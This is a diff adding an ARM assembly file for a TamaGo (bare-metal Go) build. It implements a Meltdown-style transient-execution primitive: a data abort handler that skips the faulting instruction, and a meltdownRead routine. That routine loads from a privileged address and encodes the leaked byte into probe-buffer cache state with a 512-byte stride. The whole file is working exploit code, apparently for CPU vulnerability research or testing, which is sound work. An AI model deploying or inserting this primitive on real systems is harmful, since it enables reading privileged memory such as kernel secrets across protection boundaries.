@@ -0,0 +1,21 @@
+//go:build tamago && arm
+
+#include "textflag.h"
+
+// func skipAbort()
+// Data abort handler resuming execution at the second instruction following
+// the aborted one (LR_abt = aborted instruction + 8)
+TEXT ·skipAbort(SB),NOSPLIT|NOFRAME,$0
+	MOVW.S	R14, R15
+
+// func meltdownRead(addr uint32, probe uint32)
+// Attempt a load from a privileged address, encoding the loaded byte in the
+// probe buffer cache state (512 bytes stride) within the transient window
+// following the permission fault
+TEXT ·meltdownRead(SB),NOSPLIT,$0-8
+	MOVW	addr+0(FP), R0
+	MOVW	probe+4(FP), R1
+	MOVW	$0, R2
+	WORD	$0xe5d02000		// ldrb r2, [r0]              (faults)
+	WORD	$0xe7d13482		// ldrb r3, [r1, r2, lsl #9]  (transient)
+	RET				// resumed here by skipAbort